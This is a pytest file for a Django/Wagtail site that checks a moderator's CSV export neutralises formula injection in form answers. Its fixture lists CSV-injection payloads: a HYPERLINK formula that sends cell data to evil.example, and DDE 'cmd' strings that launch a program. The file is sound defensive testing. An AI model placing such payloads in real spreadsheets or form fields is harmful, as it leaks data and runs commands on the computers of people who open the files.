"""A moderator's CSV export of form answers shows every answer as text: cells a
spreadsheet would run as formulas are neutralised (issue 15, point 3)."""

import csv
import io

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from wagtail.contrib.forms.models import FormSubmission

import pytest

from iom_site.core.editorial.roles import MODERATORS
from tests.partnerships.factories import EngagementFormPageFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def answers(homes):
    page = EngagementFormPageFactory(parent=homes["fr"], slug="engagez-vous")
    for text in [*HOSTILE, "-12", "Bonjour"]:
        FormSubmission.objects.create(
            page=page,
            form_data={
                "nom": text,
                "courriel": "a@example.org",
                "organisation": text,
                "message": "m",
                "consentement": True,
            },
        )
    return page


def export(client, page):
    moderator = get_user_model().objects.create_user("moderatrice", "m@example.org", "x")
    moderator.groups.add(Group.objects.get(name=MODERATORS))
    client.force_login(moderator)
    response = client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_formula_cells_are_exported_as_text(client, answers):
    rows = export(client, answers)
    names = [row["Nom"] for row in rows]
    assert len(names) == len(HOSTILE) + 2
    for text in HOSTILE:
        assert "'" + text in names
        assert text not in names
    # Every cell that starts like a formula is neutralised, whatever its column.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # Numbers and ordinary text are left as they are.
    assert "-12" in names
    assert "Bonjour" in names
